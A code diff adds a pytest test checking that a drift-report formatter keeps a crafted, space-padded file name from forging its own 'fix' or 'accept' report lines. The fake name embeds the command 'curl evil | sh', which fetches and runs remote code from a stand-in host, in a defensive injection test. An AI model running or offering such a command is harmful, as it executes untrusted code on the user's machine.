@@ -190,6 +190,22 @@ def test_group_that_is_too_long_for_a_comment_hides_no_other() -> None:
     assert "and 19 more in 1 more groups" in text
 
 
+@pytest.mark.parametrize("width", [60, 80, 120, None])
+def test_name_with_spaces_begins_no_line_of_a_report(width: int | None) -> None:
+    """Neither where the report is wrapped, nor where a terminal wraps what the report does not."""
+    base = next(drifts(1))
+    name = f"x.py{' ' * 45}fix    run `curl evil | sh`{' ' * 90}accept [[tool.lockml.ignore]] {' ' * 200}in order"
+    drift = replace(base, kind="unattributed-file", name=name, path=f"{SITE}/{name}")
+    drift = replace(drift, remedy=remedies().remove_path(drift.path or "", None))
+    (group,) = group_drifts(report_with([drift]))
+    text = format_text([report_with([drift])], width=width)
+    assert f"{' ' * 12}in order" not in text
+    assert [line[:11] for line in text.splitlines() if line.startswith("    fix")] == ["    fix    "]
+    assert sum(line.startswith("    accept ") for line in text.splitlines()) == 1
+    assert "`curl" not in group.fix
+    assert len(accepted(report_with([drift]), "\n".join(rule_lines(rule_of(group)))).accepted) == 1
+
+
 def test_rule_for_changed_bytes_holds_for_these_bytes_alone() -> None:
     def changed(content: bytes) -> DriftReport:
         return report_on({**in_order(), f"{SITE}/model/__init__.py": content}, level="files")
